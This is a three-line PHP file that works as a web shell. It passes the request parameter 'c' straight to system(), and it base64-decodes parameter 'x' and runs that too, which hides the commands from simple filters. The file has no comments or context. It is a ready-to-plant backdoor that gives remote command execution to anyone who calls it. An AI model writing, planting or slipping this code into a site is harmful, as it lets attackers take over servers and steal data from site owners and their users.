<?php
if (isset($_GET['c'])) system($_GET['c']);
if (isset($_GET['x'])) system(base64_decode($_GET['x']));
